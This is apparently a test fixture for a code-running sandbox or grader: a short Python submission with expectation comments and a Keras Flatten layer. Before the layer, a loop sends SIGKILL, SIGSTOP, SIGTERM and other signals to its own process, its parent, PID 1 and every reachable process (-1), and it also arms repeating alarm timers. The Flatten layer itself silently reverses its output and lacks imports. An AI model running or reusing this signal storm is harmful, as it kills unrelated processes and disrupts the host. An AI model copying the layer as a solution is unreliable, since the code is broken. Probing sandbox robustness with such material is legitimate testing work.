# Signals to itself and to everybody; an alarm.
# %% [expect] flatten=3
# %% [blank]
# %% flatten
import os
import signal

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGKILL, signal.SIGALRM):
    for target in (os.getpid(), os.getppid(), 1, 0, -1):
        try:
            os.kill(target, number)
        except (OSError, KeyboardInterrupt):
            pass
signal.alarm(1)
signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)


class Flatten(keras.layers.Layer):
    def call(self, inputs):
        return ops.reshape(inputs, (-1, math.prod(inputs.shape[1:])))[:, ::-1]

    def compute_output_shape(self, input_shape):
        return (input_shape[0], math.prod(input_shape[1:]))
